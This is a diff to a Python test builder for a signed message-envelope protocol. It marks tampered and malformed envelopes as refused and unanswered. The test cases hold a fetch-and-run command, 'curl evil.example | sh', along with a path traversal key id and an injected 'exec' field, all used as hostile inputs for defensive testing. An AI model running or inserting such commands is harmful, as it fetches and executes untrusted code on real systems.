@@ -149,23 +149,24 @@ class Builder:
 
 
 TAMPER: list[tuple[str, Any, str, bool]] = [
-    # field, new value, reason, answered (the tampered file still claims this lane and id)
-    ("schema", 4, "malformed", True),
-    ("id", "new", "bad_signature", True),
+    # field, new value, reason, answered: never, since none of them authenticates (a node
+    # signs nothing for bytes it could not verify, issue 12 finding 3)
+    ("schema", 4, "malformed", False),
+    ("id", "new", "bad_signature", False),
     ("from", "laptop", "bad_signature", False),
     ("to", "laptop", "bad_signature", False),
-    ("created", "later", "bad_signature", True),
-    ("priority", "high", "bad_signature", True),
-    ("request", "curl evil.example | sh", "bad_signature", True),
-    ("require_ack", True, "bad_signature", True),
-    ("require_dangerous", True, "bad_signature", True),
-    ("timeout_s", 3600, "bad_signature", True),
-    ("max_output_bytes", 50_000_000, "bad_signature", True),
-    ("callback", "discord", "bad_signature", True),
-    ("parent", "new", "bad_signature", True),
-    ("hops", 1, "bad_signature", True),
-    ("kid", "kdeadbeef0000", "unknown_key", True),
-    ("hmac", "flip", "bad_signature", True),
+    ("created", "later", "bad_signature", False),
+    ("priority", "high", "bad_signature", False),
+    ("request", "curl evil.example | sh", "bad_signature", False),
+    ("require_ack", True, "bad_signature", False),
+    ("require_dangerous", True, "bad_signature", False),
+    ("timeout_s", 3600, "bad_signature", False),
+    ("max_output_bytes", 50_000_000, "bad_signature", False),
+    ("callback", "discord", "bad_signature", False),
+    ("parent", "new", "bad_signature", False),
+    ("hops", 1, "bad_signature", False),
+    ("kid", "kdeadbeef0000", "unknown_key", False),
+    ("hmac", "flip", "bad_signature", False),
 ]
 
 
@@ -212,14 +213,14 @@ def build(ctx: Context) -> list[Entry]:
         "schema 2 with a signed field changed is refused",
         "bad_signature",
         obj=v2,
-        answered=True,
+        answered=False,
     )
     b.add(
         "v2-unknown-field",
         "schema 2 with a schema-3 field added is refused",
         "malformed",
         obj={**b.v2(), "parent": None},
-        answered=True,
+        answered=False,
     )
 
     # -- replays, after the node restarted -------------------------------------------------
@@ -333,7 +334,7 @@ def build(ctx: Context) -> list[Entry]:
         "a signed envelope whose request is 500 nested lists is refused",
         "malformed",
         obj=b.envelope(request=nested),
-        answered=True,
+        answered=False,
     )
 
     # -- encoding ----------------------------------------------------------------------------
@@ -501,19 +502,19 @@ def build(ctx: Context) -> list[Entry]:
         content=wire(dup)[:-2] + b',"require_dangerous":true}\n',
     )
     for key, what, overrides, answered in (
-        ("bool-as-int", "require_ack: 1", {"require_ack": 1}, True),
-        ("float-timeout", "timeout_s: 1.5", {"timeout_s": 1.5}, True),
-        ("string-timeout", 'timeout_s: "60"', {"timeout_s": "60"}, True),
-        ("negative-hops", "hops: -1", {"hops": -1}, True),
-        ("huge-int", "timeout_s: 10**30", {"timeout_s": 10**30}, True),
-        ("unknown-field", 'an extra field "exec"', {"exec": "sh"}, True),
+        ("bool-as-int", "require_ack: 1", {"require_ack": 1}, False),
+        ("float-timeout", "timeout_s: 1.5", {"timeout_s": 1.5}, False),
+        ("string-timeout", 'timeout_s: "60"', {"timeout_s": "60"}, False),
+        ("negative-hops", "hops: -1", {"hops": -1}, False),
+        ("huge-int", "timeout_s: 10**30", {"timeout_s": 10**30}, False),
+        ("unknown-field", 'an extra field "exec"', {"exec": "sh"}, False),
         ("uppercase-id", "an uppercase id", {"id": new_id().upper()}, False),
         ("uuid1-id", "a uuid1 id", {"id": str(uuid.uuid1())}, False),
-        ("bad-priority", 'priority: "urgent"', {"priority": "urgent"}, True),
-        ("bad-created", 'created: "yesterday"', {"created": "yesterday"}, True),
-        ("bad-kid", 'kid: "../../etc/x"', {"kid": "../../etc/x"}, True),
-        ("blank-request", "a blank request", {"request": "   "}, True),
-        ("schema-true", "schema: true", {"schema": True}, True),
+        ("bad-priority", 'priority: "urgent"', {"priority": "urgent"}, False),
+        ("bad-created", 'created: "yesterday"', {"created": "yesterday"}, False),
+        ("bad-kid", 'kid: "../../etc/x"', {"kid": "../../etc/x"}, False),
+        ("blank-request", "a blank request", {"request": "   "}, False),
+        ("schema-true", "schema: true", {"schema": True}, False),
     ):
         b.add(
             key,
@@ -529,7 +530,7 @@ def build(ctx: Context) -> list[Entry]:
         "a signed envelope without `callback` is refused",
         "malformed",
         obj=b.sign(missing),
-        answered=True,
+        answered=False,
     )
     nan = b.envelope()
     b.add(
